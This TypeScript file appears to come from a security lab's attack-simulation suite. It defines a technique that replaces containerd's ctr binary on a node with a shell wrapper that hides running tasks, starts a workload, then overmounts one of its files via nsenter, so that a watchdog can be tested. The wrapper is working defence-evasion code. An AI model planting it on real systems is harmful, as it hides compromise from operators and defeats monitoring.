/**
 * Attack (T1562.001 Impair Defenses, T1554 Compromise Host Software
 * Binary): root on the node replaces `/usr/bin/ctr`, containerd's client,
 * with a wrapper that answers `tasks ls` with no tasks and passes every
 * other command to the genuine binary. The gates do not use ctr, so the
 * protected workload still starts through them; but a watchdog that asked
 * ctr which containers exist would never watch a container started after
 * the swap. Root then overmounts a file of that workload through nsenter.
 *
 * What must catch it: the watchdog, which runs ctr only as pinned at lab
 * start, from the descriptor whose bytes matched the pin
 * (lab/pinned-program.ts): it does not run the wrapper, finds the container
 * from the pid file runc writes for every task, and reports the overmount.
 */
import type { LabNodeHandle } from '../../node/index.ts';
import type { Technique } from '../technique.ts';
import { replaceNodeBinary } from './defence-tamper.ts';
import { overmountNsenter } from './overmount-nsenter.ts';
import { tryStart } from './start.ts';

export const CTR = '/usr/bin/ctr';
/** Where the attacker keeps the genuine ctr. */
const GENUINE = '/usr/lib/ctr.genuine';

/** The attacker's ctr: `tasks ls` (or `task list`, `t ls`) prints the header and nothing else. */
export const HIDING_CTR = `#!/bin/sh
tasks=
for a in "$@"; do
  case "$a" in
    tasks|task|t) tasks=1 ;;
    ls|list) [ -n "$tasks" ] && { printf 'TASK    PID    STATUS\\n'; exit 0; } ;;
  esac
done
exec ${GENUINE} "$@"
`;

/** Moves the genuine ctr aside and renames the attacker's over it; evidence, including what `ctr tasks ls` now answers. */
export async function replaceCtr(node: LabNodeHandle): Promise<Record<string, unknown>> {
  const genuineSha256 = await replaceNodeBinary(node, CTR, HIDING_CTR, GENUINE);
  const answer = await node.run([CTR, '-n', 'k8s.io', 'tasks', 'ls']);
  const genuine = await node.run([GENUINE, '-n', 'k8s.io', 'tasks', 'ls']);
  return {
    ctr: CTR,
    genuineSha256,
    genuineMovedTo: GENUINE,
    replacedBy: 'a ctr that lists no task and passes every other command to the genuine one',
    tasksListedNow: answer.stdout.toString(),
    tasksTheGenuineLists: genuine.stdout.toString(),
  };
}

export const ctrHideTasks: Technique = {
  name: 'ctr-hide-tasks',
  async run(ctx) {
    const { node, workload, pods } = ctx;
    const evidence = await replaceCtr(node);
    const start = await tryStart(node, workload, pods);
    if (!start.started) throw new Error(`the workload ${workload.metadata.name} did not start (${start.stage}): ${start.reason}; the attack needs it running`);
    const overmount = await overmountNsenter.run(ctx);
    return { ...overmount, reason: `${CTR} was replaced by one that lists no task, then ${workload.metadata.name} started; ${overmount.reason}`, evidence: { ...evidence, ...overmount.evidence } };
  },
};
